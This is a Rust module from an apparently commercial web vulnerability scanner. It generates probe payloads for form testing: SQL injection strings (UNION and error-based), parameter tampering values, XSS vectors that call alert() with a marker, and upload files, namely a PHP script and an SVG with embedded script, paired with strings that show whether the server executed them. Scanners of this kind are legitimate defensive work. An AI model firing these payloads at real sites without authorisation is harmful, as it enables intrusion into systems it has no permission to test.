// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Probe Payload Sets
 * SQL injection markers, parameter tampering values, XSS vectors and
 * upload payloads used by the form probers
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use rand::distr::Alphanumeric;
use rand::Rng;

/// Seed value per lowercase input type, used for every field not carrying
/// the probe payload. Never empty, so required-field validation does not
/// reject the submission before the payload is processed.
const FIELD_DEFAULTS: &[(&str, &str)] = &[
    ("text", "ExampleText"),
    ("textarea", "ExampleText"),
    ("search", "example"),
    ("email", "test@example.com"),
    ("password", "Zq7!rTp2#Lm9"),
    ("number", "42"),
    ("range", "5"),
    ("tel", "5551234567"),
    ("url", "https://example.com"),
    ("date", "2024-01-15"),
    ("datetime-local", "2024-01-15T10:30"),
    ("time", "10:30"),
    ("month", "2024-01"),
    ("week", "2024-W03"),
    ("color", "#336699"),
    ("checkbox", "on"),
    ("radio", "on"),
    ("select", "1"),
];

const FALLBACK_FIELD_VALUE: &str = "ExampleText";

/// Type-appropriate filler value for a field
pub fn field_default_value(input_type: &str) -> &'static str {
    let input_type = input_type.to_ascii_lowercase();
    FIELD_DEFAULTS
        .iter()
        .find(|(kind, _)| *kind == input_type)
        .map(|(_, value)| *value)
        .unwrap_or(FALLBACK_FIELD_VALUE)
}

/// Which detector family a payload is meant to trigger.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PayloadKind {
    SqlInjection,
    ParameterTampering,
    Xss,
}

impl PayloadKind {
    pub fn as_str(&self) -> &'static str {
        match self {
            PayloadKind::SqlInjection => "sqli",
            PayloadKind::ParameterTampering => "tampering",
            PayloadKind::Xss => "xss",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    pub kind: PayloadKind,
    pub value: String,
}

/// Generate a random-looking marker that will not occur naturally in a page.
///
/// Lowercase alphanumerics only, so a query that echoes it back does not
/// need quoting to survive.
pub fn generate_marker() -> String {
    let suffix: String = rand::rng()
        .sample_iter(&Alphanumeric)
        .take(12)
        .map(char::from)
        .collect::<String>()
        .to_lowercase();
    format!("fa{}", suffix)
}

/// SQL payloads that make a vulnerable query emit `marker` as data or inside
/// a database error message.
pub fn sqli_payloads(marker: &str) -> Vec<String> {
    vec![
        format!("' UNION SELECT '{m}'-- -", m = marker),
        format!("' UNION SELECT '{m}',NULL-- -", m = marker),
        format!("' UNION SELECT '{m}',NULL,NULL-- -", m = marker),
        format!("\" UNION SELECT \"{m}\"-- -", m = marker),
        format!("') UNION SELECT '{m}'-- -", m = marker),
        format!("1 UNION SELECT '{m}'-- -", m = marker),
        format!("' AND 1=CAST('{m}' AS INT)-- -", m = marker),
        format!("' OR 1=CONVERT(int,'{m}')-- -", m = marker),
        format!("' AND extractvalue(1,concat(0x7e,'{m}'))-- -", m = marker),
    ]
}

/// Numeric / type tampering values for parameter manipulation
pub fn tampering_payloads() -> Vec<String> {
    ["-1", "0", "2147483648", "99999999999999999999", "1e308", "NaN", "null", "true", "[]"]
        .iter()
        .map(|s| s.to_string())
        .collect()
}

/// XSS vectors carrying `token` so a reflection can be attributed
pub fn xss_payloads(token: &str) -> Vec<String> {
    vec![
        format!("<script>alert('{t}')</script>", t = token),
        format!("<img src=x onerror=alert('{t}')>", t = token),
        format!("<svg onload=alert('{t}')>", t = token),
        format!("<iframe src=\"javascript:alert('{t}')\"></iframe>", t = token),
        format!("<a href=\"javascript:alert('{t}')\">{t}</a>", t = token),
    ]
}

/// Combined SQLi + tampering + XSS battery for one form
pub fn injection_battery(marker: &str) -> Vec<Payload> {
    let mut battery = Vec::new();

    battery.extend(sqli_payloads(marker).into_iter().map(|value| Payload {
        kind: PayloadKind::SqlInjection,
        value,
    }));
    battery.extend(tampering_payloads().into_iter().map(|value| Payload {
        kind: PayloadKind::ParameterTampering,
        value,
    }));
    battery.extend(xss_payloads(marker).into_iter().map(|value| Payload {
        kind: PayloadKind::Xss,
        value,
    }));

    battery
}

/// Malicious file attached by the upload prober.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UploadPayload {
    pub filename: String,
    pub content_type: &'static str,
    pub content: String,
    /// Substring only present when the server executed the file
    pub execution_proof: String,
    /// Substring only present when the file is served verbatim
    pub raw_proof: String,
}

pub fn upload_payloads(marker: &str) -> Vec<UploadPayload> {
    vec![
        UploadPayload {
            filename: format!("{}.php", marker),
            content_type: "application/x-php",
            content: format!("<?php echo strrev('{}'); ?>", marker),
            execution_proof: marker.chars().rev().collect(),
            raw_proof: format!("strrev('{}')", marker),
        },
        UploadPayload {
            filename: format!("{}.svg", marker),
            content_type: "image/svg+xml",
            content: format!(
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('{}')</script></svg>",
                marker
            ),
            execution_proof: format!("<script>alert('{}')</script>", marker),
            raw_proof: format!("alert('{}')", marker),
        },
    ]
}
